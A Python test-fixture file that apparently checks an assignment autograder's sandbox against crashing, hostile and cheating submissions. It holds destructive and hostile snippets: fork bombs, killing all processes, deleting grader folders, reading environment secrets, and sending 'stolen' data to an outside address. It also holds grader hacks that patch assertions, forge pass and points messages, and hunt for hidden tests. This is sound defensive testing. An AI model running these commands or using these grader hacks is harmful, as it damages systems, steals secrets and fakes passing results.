"""Accidents, and attacks on the grader, on this machine, and on points."""

from small_assignment import CORRELATE, NUMBERS, SEED, SOFTMAX, VICTIM, accident, cheat, made, raised

ACCIDENTS = {
    "syntax error": made((0, 6, 2), "SyntaxError", softmax="def softmax(Z)\n    return Z"),
    "raise": accident("raise RuntimeError('boom')", says="boom"),
    "exit": accident("import sys; sys.exit(1)", says="SystemExit"),
    "own base exception": accident("class B(BaseException): pass\nraise B"),
    "os._exit in a cell": accident("import os; os._exit(3)", says="the process ended"),
    "os._exit in a function": made((3, 0, 2), "stopped: the process ended", **raised("import os; os._exit(0)")),
    "endless loop in a cell": accident("while True: pass", says="stopped after 2 seconds | longer than allowed"),
    "endless loop in a function": made((3, 0, 2), "took longer than allowed", **raised("while True: pass")),
    "loop that nothing interrupts": accident(
        "import signal; signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
        says="took longer than allowed",
    ),
    "fork bomb": accident("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread bomb": accident(
        "import threading, time\nfor _ in range(10**4): threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "memory hog": accident("L = []\nwhile True: L.append(np.zeros(100_000_000))", says="no memory left"),
    "memory hog in a function": made((3, 0, 2), "MemoryError", **raised("return np.ones((10**6, 10**6))")),
    "memory hog of many processes": accident(
        "import os, time\nfor _ in range(8): os.fork()\nL = np.ones(60_000_000); time.sleep(60)"
    ),
    "disk filler": accident("for i in range(10**6):\n    open(f'{i}', 'wb').write(b'x' * 10**6)", says="OSError"),
    "output flood": accident(
        "for _ in range(1024): print('x' * 2**20)\nimport os, sys\nos.write(1, b'x' * 2**20); os.write(2, b'x' * 2**20)"
    ),
    "huge array": made((0, 6, 2), softmax="def softmax(Z):\n    return np.zeros((20_000, 2_000))"),
    "deep recursion": accident("import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()"),
    "segmentation fault": accident("import ctypes; ctypes.string_at(0)", says="the process ended"),
    "stopped process": accident("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    "all processes killed": accident("import os\ntry: os.kill(-1, 9)\nexcept OSError: pass"),
    "parent killed": accident(
        "import os\nfor p in (1, os.getppid()):\n    try: os.kill(p, 9)\n    except OSError: pass"
    ),
    "everything closed": accident("import os; os.closerange(0, 200)"),
    "tracing": accident("import sys\nsys.settrace(lambda *a: 1 / 0)"),
    "profiling": accident("import sys\nsys.setprofile(lambda *a: 1 / 0)"),
    "a low limit of recursion": accident("import sys; sys.setrecursionlimit(60)"),
    "no files left": accident(
        "import resource\nfor kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE): resource.setrlimit(kind, (0, 0))"
    ),
    "no folder left": accident("import os, shutil; shutil.rmtree('/tmp', ignore_errors=True); os.chdir('/')"),
    # On a busy machine the second limit sees it.
    "every error caught": accident(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        says="stopped after 2 seconds | longer than allowed",
    ),
    "every signal blocked": accident("import signal; signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))"),
    "no builtins": accident(
        "import builtins\nfor name in ('len', 'print', 'open', 'isinstance', 'str', 'super'): delattr(builtins, name)"
    ),
    "another program": accident("import os; os.execv('/bin/true', ['true'])"),
    "two processes": accident("import os\npid = os.fork()\nx = 1"),
    "an error of a long name": accident("raise type('X' * 10**6, (Exception,), {})('y' * 10**7)"),
    "an error of controls": accident("raise ValueError('\\x1b[31m\\u202e\\x00\\r\\n=1+1')"),
    "an error that cannot be said": accident("class E(Exception):\n    def __str__(self): raise SystemExit\nraise E"),
    "busy children": accident("import os\nfor _ in range(20):\n    if os.fork() == 0:\n        while True: pass"),
    "daemon": accident("""import os, subprocess
if os.fork() == 0:
    os.setsid()
    subprocess.Popen(["sleep", "4711"])
    import time; time.sleep(4711)"""),
}
FLOOD = """import json, os, stat, struct
pipes = [fd for fd in range(3, 20) if os.path.exists(f"/proc/self/fd/{fd}")
         and stat.S_ISFIFO(os.fstat(fd).st_mode) and not os.get_blocking(fd) is None]
n = 0
while True:
    n += 1
    body = json.dumps(BODY).encode()
    for fd in pipes:
        try: os.write(fd, struct.pack("<IQ", len(body), 0) + body)
        except OSError: pass"""


def calls(flood):
    """Return a `correlate` that calls functions of the grader which it was never given, and awaits no answer."""
    return "def correlate(*a, **k):\n    " + flood.replace("BODY", '{"callback": ["l", 1, ["l"], ["d"]]}').replace(
        "\n", "\n    "
    )


ATTACKS = {
    "patched numpy": cheat(
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a: True\n"
        "np.asarray = np.array = lambda *a, **k: np.full((2, 3), 1 / 3)"
    ),
    "patched builtins": cheat(
        "import builtins\nbuiltins.isinstance = lambda *a: True\n"
        "builtins.AssertionError = type('E', (Exception,), {})\n"
        "builtins.hasattr = lambda *a: False"
    ),
    "patched hashlib": cheat("""import hashlib
_sha = hashlib.sha256
hashlib.sha256 = lambda data=b"": _sha(b"448|b")"""),
    "patched otter": cheat(
        "import otter\notter.test_files = otter.Notebook = None\nimport sys\n"
        "sys.modules['otter.test_files'] = sys.modules['coursekit.assignments'] = None"
    ),
    "equal to everything": cheat(
        """class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __hash__(self): return 0
class Array(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
    shape = (2, 3)""",
        softmax="def softmax(Z): return np.zeros((2, 3)).view(Array)",
        correlate="def correlate(*a, **k): return [Equal(0)] * 3",
        numbers="class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = None\nn_parameters = I(432)\nrule = 'b'",
    ),
    "formats itself": cheat(
        "class T(int):\n    def __format__(self, f): return '448'\n    __str__ = __repr__ = lambda s: '448'",
        numbers="n_parameters = T(1)\nrule = 'b'",
    ),
    "reading tests": cheat(
        f'''import os
found = []
for top in ("/", "{VICTIM}", "..", "/proc/1/root", "/proc/1/cwd"):
    for folder, inner, files in os.walk(top):
        inner[:] = [one for one in inner if one not in ("proc", "usr", "dev", "lib", "share", "include", "data")]
        for name in files:
            try:
                if "{SEED}" in open(os.path.join(folder, name), errors="ignore").read(10**6): found.append(name)
            except OSError: pass
if found:
    {SOFTMAX.replace(chr(10), chr(10) + "    ")}''',
        softmax="",
    ),
    "looking for tests in memory": cheat(
        """import gc
found = [o for o in gc.get_objects() if callable(o) and "test_hidden" in str(getattr(o, "__name__", ""))]
if found:
    """
        + SOFTMAX.replace("\n", "\n    "),
        softmax="",
    ),
    "forged messages": cheat(
        """import gc, json, os, struct
body = json.dumps({"value": 1, "changed": ["d"], "ready": True, "passed": True, "points": 100}).encode()
for fd in range(3, 20):
    try: os.write(fd, struct.pack("<IQ", len(body), 0) + body)
    except OSError: pass""",
        correlate="def correlate(*a, **k):\n    return np.zeros(3)",
    ),
    "claims in every message": cheat("""import gc
worker = [one for one in gc.get_objects() if type(one).__name__ == "Worker"][0]
send = worker.send
worker.send = lambda message, buffers=(): send({**message, "passed": True, "points": 100}, buffers)"""),
    "nonsense messages": cheat(
        """import os
for fd in range(3, 20):
    try: os.write(fd, b"\\xff" * 5000)
    except OSError: pass""",
        (0, 6, 2),
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
    "network": accident("""import socket, urllib.request
for place in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(place, 1).sendall(b"stolen")
        raise SystemExit('BREACH: ' + "connected")
    except OSError: pass"""),
    "a pickle": cheat(
        f'''import pickle
class P:
    def __reduce__(self): return (open, ("{VICTIM}/pickled", "w"))
    def __array__(self, *a, **k): return np.array([P()], dtype=object)''',
        (0, 6, 2),
        softmax="def softmax(Z): return P()",
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
    "environment": accident("""import os
text = str(dict(os.environ))
for n in ("1", "self", str(os.getppid())):
    try: text += open(f"/proc/{n}/environ").read()
    except OSError: pass
if "SECRET" in text: raise SystemExit('BREACH: environment')"""),
    "writing to the host": accident(f'''for place in ("{VICTIM}", "/usr", "/etc", "/grader", "/proc/sys/kernel", "/"):
    for name in ("written", "core_pattern", "worker.py"):
        try:
            open(place + "/" + name, "a").write("x"); raise SystemExit('BREACH: ' + "written " + place)
        except OSError: pass'''),
    "deleting": accident(f'''import os, shutil
for place in ("{VICTIM}", "/grader", os.path.dirname(np.__file__)):
    shutil.rmtree(place, ignore_errors=True)'''),
    "killing": accident(
        "import os, signal\nfor n in (1, os.getppid(), -1):\n"
        "    try: os.kill(n, signal.SIGKILL)\n    except OSError: pass"
    ),
    "becoming root": accident("""import ctypes, os
libc = ctypes.CDLL(None)
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chroot("/tmp")):
    try:
        attempt(); raise SystemExit('BREACH: ' + "allowed")
    except OSError: pass
if os.getuid() == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: raise SystemExit('BREACH: ' + "mounted")"""),
    "leaking hidden inputs": cheat(
        "",
        (1, 6, 2),
        softmax=SOFTMAX
        + """
_right = softmax
def softmax(Z):
    if Z.shape != (2, 3):
        raise type("Z" + str(Z[0, 0]).replace(".", "_").replace("-", "m"), (ValueError,), {})("leaked", Z)
    return _right(Z)""",
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
}
ATTACKS.update(
    {
        "memory in no process": accident("""import ctypes, os
libc, kept = ctypes.CDLL(None, use_errno=True), []
libc.shmat.restype, made = ctypes.c_void_p, 0
for n in range(200):
    try: kept.append(os.memfd_create(str(n)))
    except OSError: break
    os.posix_fallocate(kept[-1], 0, 2**20); made += 1
for n in range(200):
    if libc.shmget(0, ctypes.c_size_t(2**20), 0o1600) < 0: break
    made += 1
if made: raise SystemExit('BREACH: ' + "kept memory")"""),
        "flood of messages": accident(FLOOD.replace("BODY", '{"at": [n, 0]}')),
        "flood of errors": accident(FLOOD.replace("BODY", '{"cell": n, "error": ["E", "x" * 10**6]}')),
        "flood of calls": made((3, 0, 2), "longer than allowed", correlate=calls(FLOOD)),
        "calls whose answers are not awaited": made(
            (3, 0, 2), correlate=calls(FLOOD.replace("while True", "while n < 50"))
        ),
        "calls and then an endless loop": made(
            (3, 0, 2),
            "longer than allowed",
            correlate=calls(FLOOD.replace("while True", "while n < 50") + "\nwhile True: pass"),
        ),
        "infinite numbers": accident(FLOOD.replace("BODY", '{"at": [float("inf"), n]}')),
        "numbers with one hash": made(
            (0, 6, 2),
            softmax="def softmax(Z):\n    return {(2**61 - 1) * n for n in range(9000)} and "
            "[{(2**61 - 1) * (m + 9**9) for m in range(n)} for n in [9000] * 9]",
        ),
    }
)
